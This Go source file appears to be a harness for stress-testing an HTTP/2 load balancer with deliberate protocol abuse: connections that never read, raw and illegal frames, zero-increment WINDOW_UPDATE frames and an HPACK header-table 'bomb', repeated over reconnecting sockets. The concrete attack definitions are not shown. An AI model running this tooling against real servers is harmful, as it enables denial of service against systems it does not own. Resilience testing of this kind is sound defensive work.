package main

import (
	"bytes"
	"context"
	"encoding/binary"
	"io"
	"net"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// attack is a way to misuse HTTP/2.
type attack struct {
	name        string
	connections int
	cut         bool          // its connections are to be cut
	unread      bool          // it never reads
	sends       int           // how often it sends, before it holds the connection; 0 = for ever
	pause       time.Duration // between two sends; 0 = quick
	spread      time.Duration // between the beginnings of two connections
	version1    string        // requests of HTTP/1.1, all that its connections send
	setup       func(*attacker)
	send        func(*attacker) // writes some frames; the framer's errors show when they are sent
}

// quick is the pause of most attacks: attackers and other clients share a machine with the
// balancer, and what it costs is to be seen, not what they cost. Those that open many
// connections to the server are slower, so that it can accept them.
const quick = time.Millisecond

// counts are what one attacker has done.
type counts struct{ connections, cut, frames atomic.Int64 }

// attacker is one connection of an attack.
type attacker struct {
	framer *http2.Framer
	out    bytes.Buffer // what it will send
	stream uint32       // of the latest request
	block  []byte       // a request's head
	bomb   []byte       // a head that refers to a large entry of the table
}

// get is the header block of a GET, without use of the table.
func get(path string) []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	for _, f := range []hpack.HeaderField{{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "http"}, {Name: ":path", Value: path}, {Name: ":authority", Value: "a"}} {
		f.Sensitive = f.Name == ":authority" || f.Name == ":path"
		_ = e.WriteField(f)
	}
	return b.Bytes()
}

// repeat attacks from a delay until ctx ends, over a new connection whenever one is cut.
func (a *attack) repeat(ctx context.Context, address string, delay time.Duration, c *counts) {
	select {
	case <-ctx.Done():
	case <-time.After(delay):
	}
	for ctx.Err() == nil {
		conn, err := (&net.Dialer{}).DialContext(ctx, "tcp", address)
		if err != nil {
			return
		}
		c.connections.Add(1)
		stop := context.AfterFunc(ctx, func() { conn.Close() })
		a.once(ctx, conn, c)
		stop()
		conn.Close()
		if ctx.Err() == nil {
			c.cut.Add(1)
		}
	}
}

// begin writes what each connection begins with.
func (a *attack) begin() *attacker {
	w := &attacker{block: get("/quick")}
	w.stream-- // the first is 1
	w.framer = http2.NewFramer(&w.out, nil)
	w.framer.AllowIllegalWrites = true
	w.out.WriteString(http2.ClientPreface)
	_ = w.framer.WriteSettings()
	_ = w.framer.WriteSettingsAck()
	if a.setup != nil {
		a.setup(w)
	}
	return w
}

// once attacks over one connection, until that is cut or ctx ends.
func (a *attack) once(ctx context.Context, conn net.Conn, c *counts) {
	closed := make(chan struct{})
	if a.unread {
		_ = conn.(*net.TCPConn).SetReadBuffer(4 << 10)
		close(closed)
	} else {
		go func() {
			defer close(closed)
			_, _ = io.Copy(io.Discard, conn)
			conn.Close()
		}()
	}
	if a.version1 != "" {
		_, _ = io.WriteString(conn, a.version1)
		a.hold(ctx, closed)
		return
	}
	w := a.begin()
	tick := time.NewTicker(max(a.pause, quick))
	defer tick.Stop()
	for sent := 0; ctx.Err() == nil; sent++ {
		if a.sends > 0 && sent == a.sends {
			a.hold(ctx, closed)
			break
		}
		a.send(w)
		if _, err := conn.Write(w.out.Bytes()); err != nil {
			break
		}
		c.frames.Add(int64(frames(w.out.Bytes())))
		w.out.Reset()
		<-tick.C
	}
	conn.Close()
	<-closed
}

// hold waits until the connection or the attack ends.
func (a *attack) hold(ctx context.Context, closed <-chan struct{}) {
	if a.unread {
		<-ctx.Done()
		return
	}
	select {
	case <-ctx.Done():
	case <-closed:
	}
}

// frames counts the frames in p.
func frames(p []byte) (n int) {
	p = bytes.TrimPrefix(p, []byte(http2.ClientPreface))
	for len(p) >= 9 {
		length := int(p[0])<<16 | int(p[1])<<8 | int(p[2])
		p = p[min(len(p), 9+length):]
		n++
	}
	return n
}

// open writes the head of another request.
func (w *attacker) open(end bool, block []byte) {
	w.stream += 2
	_ = w.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: w.stream, BlockFragment: block, EndStream: end, EndHeaders: true})
}

// raw writes a frame of any type.
func (w *attacker) raw(kind http2.FrameType, flags http2.Flags, stream uint32, payload []byte) {
	_ = w.framer.WriteRawFrame(kind, flags, stream, payload)
}

// increment writes WINDOW_UPDATE, by zero, too.
func (w *attacker) increment(stream, n uint32) {
	w.raw(http2.FrameWindowUpdate, 0, stream, binary.BigEndian.AppendUint32(nil, n))
}
